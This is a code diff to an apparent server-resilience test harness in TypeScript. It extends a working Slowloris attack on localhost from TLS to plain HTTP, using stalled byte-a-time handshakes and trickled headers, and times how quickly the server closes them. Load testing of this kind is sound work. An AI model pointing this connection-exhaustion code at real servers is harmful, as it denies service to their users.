@@ -1,7 +1,8 @@
 /**
  * Slowloris against a TLS port: many TCP sockets that never finish the TLS handshake (silent, or a byte of a
  * ClientHello every 5 s), and TLS sockets that finish it and then trickle their request headers. Each
- * socket's lifetime is measured from its TCP connect to the server closing it.
+ * socket's lifetime is measured from its TCP connect to the server closing it. Against a plain HTTP port
+ * (`plain`), the stalled sockets send a byte of a request line instead, and the trickling ones skip TLS.
  */
 import net from "node:net";
 import tls from "node:tls";
@@ -10,6 +11,8 @@ import type { Credentials } from "./raw_ws.ts";
 
 /** The start of a TLS 1.2 ClientHello record, sent a byte at a time. */
 const CLIENT_HELLO = [0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03];
+/** The same for a plain HTTP port: a request line, a byte at a time. */
+const REQUEST_LINE = [...new TextEncoder().encode("GET / HTTP/1.1\r\n")];
 const HELLO_BYTE_EVERY_MS = 5_000;
 const HEADER_LINE_EVERY_MS = 200;
 /** Connects opened at once: more would overflow the listen backlog (511) and retry SYNs after 1 s. */
@@ -54,6 +57,8 @@ export interface SlowlorisAttack {
   readonly port: number;
   readonly stalled: number;
   readonly trickling: { count: number; credentials?: Credentials; path: string };
+  /** A plain HTTP port: no TLS. */
+  readonly plain?: boolean;
   /** How long to wait for the server to close them all. */
   readonly timeoutMs: number;
   /** An honest connect, timed 5 times while the attack holds its sockets. */
@@ -64,10 +69,11 @@ export interface SlowlorisAttack {
 export async function runSlowloris(attack: SlowlorisAttack): Promise<SlowlorisFigures> {
   const open: Slowloris[] = [];
   try {
-    const stalled = await stalledHandshakes(attack.port, attack.stalled);
+    const plain = attack.plain ?? false;
+    const stalled = await stalledHandshakes(attack.port, attack.stalled, plain);
     open.push(stalled);
     const { count, credentials, path } = attack.trickling;
-    const trickling = await tricklingHeaders(attack.port, count, credentials, path);
+    const trickling = await tricklingHeaders(attack.port, count, credentials, path, plain);
     open.push(trickling);
     const honestConnectMs: number[] = [];
     for (let i = 0; i < 5; i++) {
@@ -87,18 +93,21 @@ export async function runSlowloris(attack: SlowlorisAttack): Promise<SlowlorisFi
   }
 }
 
-/** `count` TCP sockets: half silent, half sending a ClientHello byte every 5 s. */
-export function stalledHandshakes(port: number, count: number): Promise<Slowloris> {
+/** `count` TCP sockets: half silent, half sending a ClientHello (`plain`: request line) byte every 5 s. */
+export function stalledHandshakes(port: number, count: number, plain = false): Promise<Slowloris> {
+  const bytes = plain ? REQUEST_LINE : CLIENT_HELLO;
   return open(count, (i, onClose) => {
     const socket = net.connect(port, "127.0.0.1");
     let timer: ReturnType<typeof setInterval> | undefined;
     let connectedAt = 0;
     socket.on("error", () => {/* reset by the server: closed */});
+    // A plain HTTP server answers 408 before it closes: read it, or the close is never seen.
+    socket.on("data", () => {});
     socket.once("connect", () => {
       connectedAt = performance.now();
       if (i % 2 === 0) return; // the silent half
       let next = 0;
-      const sendByte = () => socket.write(Uint8Array.of(CLIENT_HELLO[next++ % CLIENT_HELLO.length]!));
+      const sendByte = () => socket.write(Uint8Array.of(bytes[next++ % bytes.length]!));
       sendByte();
       timer = setInterval(sendByte, HELLO_BYTE_EVERY_MS);
     });
@@ -111,17 +120,19 @@ export function stalledHandshakes(port: number, count: number): Promise<Slowlori
 }
 
 /**
- * `count` TLS sockets that finish the handshake (with `credentials` when given) and then send a request
- * line and one header line every 200 ms, never the blank line that ends the headers.
+ * `count` TLS sockets (`plain`: TCP) that finish the handshake (with `credentials` when given) and then send
+ * a request line and one header line every 200 ms, never the blank line that ends the headers.
  */
 export function tricklingHeaders(
   port: number,
   count: number,
   credentials: Credentials | undefined,
   path: string,
+  plain = false,
 ): Promise<Slowloris> {
+  const ready = plain ? "connect" : "secureConnect";
   return open(count, (_i, onClose) => {
-    const socket = tls.connect({
+    const socket = plain ? net.connect(port, "127.0.0.1") : tls.connect({
       host: "127.0.0.1",
       port,
       ca: credentials?.caPem,
@@ -133,7 +144,7 @@ export function tricklingHeaders(
     let connectedAt = 0;
     socket.on("error", () => {/* reset by the server: closed */});
     socket.on("data", () => {/* the 408, if any */});
-    socket.once("secureConnect", () => {
+    socket.once(ready, () => {
       connectedAt = performance.now();
       socket.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n`);
       let n = 0;
@@ -143,7 +154,7 @@ export function tricklingHeaders(
       clearInterval(timer);
       onClose(connectedAt ? performance.now() - connectedAt : 0);
     });
-    return { connected: once(socket, "secureConnect"), destroy: () => socket.destroy() };
+    return { connected: once(socket, ready), destroy: () => socket.destroy() };
   });
 }
 
